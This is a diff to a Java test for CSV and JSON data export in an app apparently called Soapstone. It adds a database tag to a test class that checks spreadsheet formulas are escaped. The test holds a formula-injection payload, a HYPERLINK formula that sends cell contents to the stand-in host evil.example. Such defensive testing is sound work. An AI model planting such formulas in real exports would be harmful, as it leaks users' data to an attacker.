@@ -1,9 +1,11 @@
 package app.soapstone.record;
 
 import app.soapstone.support.RecordsTest;
+import app.soapstone.support.SoapstoneTest;
 import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVParser;
 import org.apache.commons.csv.CSVRecord;
+import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import tools.jackson.databind.JsonNode;
@@ -23,6 +25,7 @@ import static org.assertj.core.api.Assertions.assertThat;
  * before it, as OWASP recommends, and every value is quoted; numbers are written as they are; the
  * JSON keeps every value exactly; the export's README says so.
  */
+@Tag(SoapstoneTest.POSTGRESQL)
 class DataExportFormulasTest extends RecordsTest {
 
     private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
